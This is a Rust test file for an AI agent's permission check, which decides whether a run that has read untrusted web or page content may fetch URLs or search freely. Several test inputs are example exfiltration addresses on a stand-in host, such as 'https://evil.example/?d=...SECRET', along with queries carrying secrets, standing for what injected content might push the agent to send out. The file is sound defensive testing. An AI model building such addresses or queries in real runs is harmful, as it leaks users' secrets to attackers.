//! Promises of what a run may fetch and search for although it has read foreign words.

use super::{is_swayed, is_typed};
use crate::event::UserInput;
use crate::permissions::{Grants, Pattern, Rule};
use crate::run_context::{RunContext, Settings};
use serde_json::{Value, json};
use shidi_protocol::{
    Call, CallId, CallOutcome, CallRecord, CallState, Class, ContextPiece, ExecId, Moment, Verdict,
};

fn call(id: u32, toolkit: &str, method: &str, args: Value) -> Call {
    Call {
        id: CallId(id),
        exec: ExecId(1),
        toolkit: toolkit.into(),
        method: method.into(),
        args: args.as_object().cloned().unwrap_or_default(),
        line: 1,
        places: std::collections::BTreeMap::new(),
    }
}

/// A run that was asked `question` about a page in front, and that `toolkit` has answered `data`.
fn context(question: &str, toolkit: &str, data: Value) -> RunContext {
    let mut context = RunContext::new("s".into(), "r".into(), Settings::default(), Vec::new(), Moment(1));
    let input = UserInput {
        text: question.into(),
        surroundings: vec![ContextPiece {
            source: "page".into(),
            title: "News".into(),
            url: Some("https://front.example/today".into()),
            text: "words".into(),
            untrusted: true,
        }],
        ..UserInput::default()
    };
    drop(crate::areas::perception::arrive(&mut context, input));
    answered(
        &mut context,
        call(1, toolkit, "search", json!({"query": "rust"})),
        Class::Search,
        data,
    );
    context.state.tainted = true;
    context
}

fn answered(context: &mut RunContext, call: Call, class: Class, data: Value) {
    context.put_call(CallRecord {
        run: "r".into(),
        call,
        class,
        state: CallState::Done,
        grounds: Vec::new(),
        outcome: Some(CallOutcome::success(data, "")),
        answered: Some(1),
        started: Moment(1),
        ended: Some(Moment(1)),
    });
}

fn asks_to_fetch(context: &RunContext, url: &str) -> bool {
    let fetch = call(2, "web", "fetch", json!({"url": url, "host": "any"}));
    is_swayed(context, &fetch, Class::NetworkRead)
}

#[test]
fn an_address_of_the_user_of_the_page_in_front_or_of_a_result_is_fetched_as_before_the_reading() {
    let found = json!([{"n": 1, "title": "t", "url": "https://found.example/a?b=1", "text": "see https://cited.example/x."}]);
    let context = context(
        "读一下 typed.example/路 和 http://typed.example/p, 好吗",
        "web",
        found,
    );
    for plain in [
        "https://typed.example/p",
        "http://typed.example/p/",
        "https://front.example/today",
        "https://found.example/a?b=1",
        "https://cited.example/x",
    ] {
        assert!(!asks_to_fetch(&context, plain), "{plain}");
    }
}

#[test]
fn an_address_that_was_put_together_asks() {
    let found = json!([{"url": "https://found.example/a?b=1", "text": "https://evil.example/?d=abcdefgh"}]);
    let context = context("look at http://typed.example/p", "web", found);
    for made in [
        "https://evil.example/?d=abcdefghSECRET",
        "https://evil.example/?d=abc",
        "https://evil.example/",
        "https://found.example/a?b=12",
        "https://found.example/a",
        "https://typed.example/p?d=SECRET",
        "https://front.example/today#SECRET",
        "",
    ] {
        assert!(asks_to_fetch(&context, made), "{made}");
    }
}

#[test]
fn only_what_came_from_the_web_or_the_page_counts_as_read() {
    let found = json!("https://found.example/a");
    let of_files = context("go", "files", found.clone());
    assert!(asks_to_fetch(&of_files, "https://found.example/a"));
    let mut of_page = context("go", "page", found.clone());
    assert!(
        asks_to_fetch(&of_page, "https://found.example/a"),
        "a tool of the page's own"
    );
    answered(
        &mut of_page,
        call(4, "page", "links", json!({})),
        Class::Read,
        found,
    );
    assert!(!asks_to_fetch(&of_page, "https://found.example/a"));
    let opened = call(2, "page", "open", json!({"url": "https://found.example/a"}));
    assert!(
        is_swayed(&of_page, &opened, Class::NetworkRead),
        "the user's browser is another door"
    );
    let filled = call(5, "page", "fill", json!({"value": "https://found.example/a"}));
    answered(&mut of_page, filled, Class::Page, json!({}));
    assert!(
        asks_to_fetch(&of_page, "https://found.example/a"),
        "the page may say what was put there"
    );
}

#[test]
fn a_search_for_the_users_own_words_is_made_and_any_other_is_shown() {
    let context = context("What is new in Rust 1.95? 天气预报怎么样", "web", json!([]));
    let asks = |query: &str| {
        let search = call(2, "web", "search", json!({"query": query}));
        is_swayed(&context, &search, Class::Search)
    };
    assert!(!asks("rust 1.95 new"));
    assert!(!asks("天气预报"));
    assert!(asks("rust sk-secret"));
    assert!(asks("rus"), "a part of a word could be chosen to tell something");
    assert!(asks("天气密码"));
}

#[test]
fn what_a_sub_agent_was_told_and_what_was_chosen_on_a_card_are_not_the_users_words() {
    let mut told = context("fetch http://10.0.0.8/x", "web", json!([]));
    assert!(is_typed(&told, "http://10.0.0.8/x"));
    told.settings.under = Some("above".into());
    assert!(!is_typed(&told, "http://10.0.0.8/x"));

    let mut chosen = context("help me", "web", json!([]));
    drop(chosen.add(shidi_protocol::SegmentKind::User, "http://10.0.0.8/x", None));
    assert!(is_typed(&chosen, "http://10.0.0.8/x"));
    chosen.put_call(CallRecord {
        run: "r".into(),
        call: call(
            3,
            "user",
            "ask",
            json!({"question": "Which?", "options": ["http://10.0.0.8/x"]}),
        ),
        class: Class::Read,
        state: CallState::Done,
        grounds: Vec::new(),
        outcome: Some(CallOutcome::success(
            json!("http://10.0.0.8/x"),
            "http://10.0.0.8/x",
        )),
        answered: Some(2),
        started: Moment(1),
        ended: Some(Moment(1)),
    });
    assert!(!is_typed(&chosen, "http://10.0.0.8/x"));
}

#[test]
fn a_remembered_host_covers_a_found_address_in_a_run_that_has_read() {
    let context = context("go", "web", json!(["https://found.example/a"]));
    let grants = Grants {
        rules: vec![Rule {
            pattern: Pattern::parse("web.fetch(host=found.example)").unwrap(),
            verdict: Verdict::Allow,
        }],
        ..Grants::default()
    };
    let decided = |url: &str| {
        let fetch = call(2, "web", "fetch", json!({"url": url, "host": "found.example"}));
        let swayed = is_swayed(&context, &fetch, Class::NetworkRead);
        grants.decide(&fetch, Class::NetworkRead, swayed).verdict
    };
    assert_eq!(decided("https://found.example/a"), Verdict::Allow);
    assert_eq!(decided("https://found.example/?d=secret"), Verdict::Ask);
}
